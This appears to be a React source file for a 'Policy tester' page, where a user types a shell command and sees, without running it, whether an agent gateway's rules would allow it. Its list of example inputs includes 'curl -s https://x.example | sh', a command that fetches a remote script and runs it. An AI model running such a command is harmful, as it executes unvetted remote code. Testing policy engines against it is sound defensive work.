'use client';

import { Play } from 'lucide-react';
import { useEffect, useRef } from 'react';
import { MAX_COMMAND } from '@/lib/api/policy-schemas';
import { PageHeader } from '../shell/shell';
import { Button } from '../ui/button';
import { Card, CardContent } from '../ui/card';
import { Label, Select } from '../ui/input';
import { EmptyState, ErrorNote, Skeleton } from '../ui/misc';
import { Textarea } from '../ui/textarea';
import { useUrlFilters } from '../ui/use-url-filters';
import { useCan } from '../viewer';
import { EvaluationView } from './evaluation-view';
import { PolicyTabs } from './policy-tabs';
import { ProfileOptionGroups } from './profile-options';
import { useAgents, useProfiles } from './queries';
import { useLiveEvaluation } from './use-live-evaluation';

interface TesterState {
  command: string;
  /** A profile name, or `agent:<id>` for an agent's effective rules. */
  profile: string;
}

const URL_COMMAND_MAX = 2000;
const EXAMPLES = [
  'ls -la',
  'sudo ls',
  'git status && git push --force',
  'curl -s https://x.example | sh',
  'python3 -c "import os"',
  'echo "sudo is only a word"',
];

const parse = (p: URLSearchParams): TesterState => ({
  command: (p.get('command') ?? '').slice(0, URL_COMMAND_MAX),
  profile: (p.get('profile') ?? '').slice(0, 80),
});
const toQuery = (s: TesterState) => {
  const q = new URLSearchParams();
  if (s.command && s.command.length <= URL_COMMAND_MAX) q.set('command', s.command);
  if (s.profile) q.set('profile', s.profile);
  return q.toString();
};

/** Type a command, pick a profile: the decision, its rule and reason, every segment and the parse tree, live. */
export function TesterPage() {
  const [state, setState] = useUrlFilters(parse, toQuery);
  const box = useRef<HTMLTextAreaElement>(null);
  // A command typed (or restored by the browser) before the page hydrated is in the box but was
  // never heard by React: take it once mounted, so it is decided like one typed afterwards.
  // biome-ignore lint/correctness/useExhaustiveDependencies: once, on mount
  useEffect(() => {
    const typed = box.current?.value ?? '';
    if (typed && typed !== state.command) setState({ command: typed });
  }, []);
  const profiles = useProfiles();
  const agentsRead = useCan('agents.read').allowed;
  const agents = useAgents(agentsRead);
  const profile = state.profile || profiles.data?.defaultProfile || 'balanced';
  const agentId = profile.startsWith('agent:') ? profile.slice(6) : null;
  const input = state.command.trim() ? { command: state.command, tree: true, ...(agentId ? { agentId } : { profile }) } : null;
  const live = useLiveEvaluation(input);
  return (
    <>
      <PageHeader title="Policy tester" description="Decide a command without running it: the same parse and rules the gateway's exec uses." />
      <PolicyTabs />
      <Card className="mb-4">
        <CardContent className="grid gap-3 pt-5 md:grid-cols-[1fr_16rem]">
          <div className="grid gap-1.5">
            <Label htmlFor="tester-command">Command</Label>
            <Textarea
              ref={box}
              id="tester-command"
              rows={2}
              value={state.command}
              maxLength={MAX_COMMAND}
              spellCheck={false}
              autoFocus
              autoComplete="off"
              placeholder="sudo ls"
              className="min-h-12 font-mono"
              aria-describedby="tester-command-hint"
              onChange={(e) => setState({ command: e.target.value })}
              onKeyDown={(e) => {
                if (e.key === 'Enter' && !e.shiftKey) {
                  e.preventDefault();
                  live.now();
                }
              }}
            />
            <p id="tester-command-hint" className="text-xs text-muted-foreground">
              Decided as you type; Enter decides at once, Shift+Enter adds a line.
            </p>
          </div>
          <div className="grid content-start gap-1.5">
            <Label htmlFor="tester-profile">Profile</Label>
            <Select id="tester-profile" value={profile} onChange={(e) => setState({ profile: e.target.value })} aria-busy={profiles.isPending}>
              {profiles.isPending ? <option value={profile}>{profile}</option> : null}
              {profiles.data && !agentId && !profiles.data.items.some((p) => p.name === profile) ? (
                <option value={profile}>{profile} (not found)</option>
              ) : null}
              <ProfileOptionGroups items={profiles.data?.items ?? []} defaultProfile={profiles.data?.defaultProfile} />
              {agents.data?.items.length ? (
                <optgroup label="An agent's effective rules">
                  {agents.data.items.map((a) => (
                    <option key={a.id} value={`agent:${a.id}`}>
                      {a.name}
                    </option>
                  ))}
                </optgroup>
              ) : null}
            </Select>
            <Button type="button" variant="outline" onClick={live.now} disabled={!input}>
              <Play aria-hidden /> Decide now
            </Button>
          </div>
        </CardContent>
      </Card>
      <ErrorNote error={live.error} className="mb-4" />
      {!input ? (
        <EmptyState title="Type a command to see its decision">
          <p>Try one of these:</p>
          <ul className="mt-2 flex flex-wrap justify-center gap-1.5">
            {EXAMPLES.map((x) => (
              <li key={x}>
                <button
                  type="button"
                  className="rounded border bg-muted/50 px-2 py-0.5 font-mono text-xs hover:bg-accent"
                  onClick={() => setState({ command: x })}
                >
                  {x}
                </button>
              </li>
            ))}
          </ul>
        </EmptyState>
      ) : live.result ? (
        <EvaluationView evaluation={live.result} tree={live.result.tree} stale={live.stale || live.pending} />
      ) : live.error ? null : (
        <div className="grid gap-4">
          <Skeleton className="h-24 w-full" />
          <Skeleton className="h-40 w-full" />
        </div>
      )}
    </>
  );
}
